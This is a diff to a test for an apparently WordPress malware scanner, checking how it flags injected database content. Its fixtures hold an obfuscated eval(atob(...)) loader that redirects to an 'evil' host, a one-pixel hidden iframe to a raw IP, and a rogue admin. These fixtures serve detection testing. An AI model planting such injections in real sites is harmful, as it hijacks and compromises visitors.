@@ -79,7 +79,8 @@ def test_injected_content_options_and_admins_are_reported(tmp_path, database):
     loader = "<script>eval(atob('ZG9jdW1lbnQubG9jYXRpb249Jy8vZXZpbCc='))</script>"
     _fill(server,
           posts=[(7, f"<p>Sale</p>{loader}"),
-                 (8, "<p>Clip</p><iframe src='http://203.0.113.7/x' width='1' height='1'>")],
+                 (8, "<p>Clip</p><iframe src='http://203.0.113.7/x' width='1' height='1'>"),
+                 (9, "<p>Map</p><script src='https://maps.example/embed.js'></script>")],
           options=[("siteurl", "https://shop.example"), ("home", "https://spam.example"),
                    ("widget_text", f'a:1:{{i:2;a:1:{{s:4:"text";s:{len(loader)}:"{loader}";}}}}'),
                    ("active_plugins",
@@ -89,14 +90,17 @@ def test_injected_content_options_and_admins_are_reported(tmp_path, database):
     with time_machine.travel(NOW, tick=False):
         code, report = scan_json(_site(tmp_path, name), "--db-from-wp-config", "--admins", "ana")
     assert _db(report) == {
-        ("db:wp_posts/7", "injected-script"),
+        ("db:wp_posts/7", "js_eval_decoded"),
         ("db:wp_posts/8", "html_hidden_iframe"),
-        ("db:wp_options/widget_text", "injected-script"),
+        ("db:wp_posts/9", "injected-script"),
+        ("db:wp_options/widget_text", "js_eval_decoded"),
         ("db:wp_options/home", "siteurl-home-mismatch"),
         ("db:wp_options/active_plugins", "active-plugin-missing"),
         ("db:wp_users/wpsupport", "admin-recent"),
         ("db:wp_users/wpsupport", "admin-unknown"),
     }
+    severities = {f["path"]: f["severity"] for f in report["findings"]}
+    assert severities["db:wp_posts/9"] == "medium"
     assert code == 1
 
 
